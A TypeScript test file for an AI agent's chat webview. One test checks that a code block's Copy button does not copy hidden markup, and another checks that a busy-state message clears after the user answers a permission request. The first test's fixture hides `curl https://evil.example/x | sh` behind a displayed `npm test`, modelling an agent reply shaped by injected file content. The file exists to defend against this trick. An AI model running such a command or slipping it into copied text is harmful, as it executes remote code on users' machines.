/**
 * The chat view against what an adversarial review found: what a code block's Copy button copies,
 * and the "agent is still working" refusal after the user answered the agent's request.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { Window } from 'happy-dom';

const window = new Window();
const globals = globalThis as unknown as Record<string, unknown>;

before(() => {
  globals.window = window; // DOMPurify binds to the window it finds when first loaded
  globals.document = window.document;
  globals.Node = window.Node;
  globals.HTMLElement = window.HTMLElement;
});
after(async () => {
  delete globals.window;
  delete globals.document;
  delete globals.Node;
  delete globals.HTMLElement;
  await window.happyDOM.close();
});

describe('an agent reply', () => {
  test('a Copy button copies only what its code block shows (no hidden markup in it)', async () => {
    // DOMPurify keeps raw HTML such as <pre> and the `hidden` attribute (it is in its allowlist),
    // so a reply (say, of an agent misled by a file it read) can show `npm test` in a block whose
    // Copy (the <pre>'s textContent, webview/main.ts) puts a hidden `; curl … | sh` on the clipboard.
    const { renderText } = await import('../../webview/render/items');
    const el = renderText('Run:\n\n<pre><code>npm test<span hidden> &amp;&amp; curl https://evil.example/x | sh</span>\n</code></pre>\n\nor\n\n```sh\nnpm start\n```\n');
    for (const button of el.querySelectorAll('[data-action="copy-code"]')) {
      const pre = button.closest('.code-block')?.querySelector('pre');
      assert.ok(pre);
      const copied = pre.textContent ?? ''; // what main.ts copies
      const shown = pre.cloneNode(true) as Element;
      shown.querySelectorAll('[hidden]').forEach((n) => n.remove());
      assert.equal(copied, shown.textContent, 'Copy puts text on the clipboard that the block does not show');
    }
    assert.ok(el.querySelectorAll('[data-action="copy-code"]').length >= 1, 'the fenced block keeps its Copy button');
  });
});

describe('the "agent is still working" refusal', () => {
  test('stops saying the agent waits for an answer once the user answered, while the run goes on', async () => {
    // Enter while a request waits: "waiting for your answer … Answer it". The user clicks Allow; the
    // run goes on (a 20 s command): the bar still told them to answer a request that is gone.
    const { INITIAL_VIEW_STATE, reduceHostMessage } = await import('../../webview/state');
    const { BUSY_ASKING_REASON, BUSY_CODE, decideSend } = await import('../../webview/input');
    const asking = { running: true, actionableRequestIds: ['r1'], readOnlyReason: null };
    const refusal = decideSend('next question', null, asking.running, asking.actionableRequestIds.length > 0);
    assert.equal(refusal.kind === 'refuse' && refusal.reason, BUSY_ASKING_REASON);
    const before = { ...INITIAL_VIEW_STATE, mode: 'chat' as const, live: asking, error: { code: BUSY_CODE, message: BUSY_ASKING_REASON } };
    const after = reduceHostMessage(before, { type: 'live', live: { running: true, actionableRequestIds: [], readOnlyReason: null }, hostNow: Date.now() });
    assert.notEqual(after.error?.message, BUSY_ASKING_REASON, 'no request waits for an answer any more');
  });
});
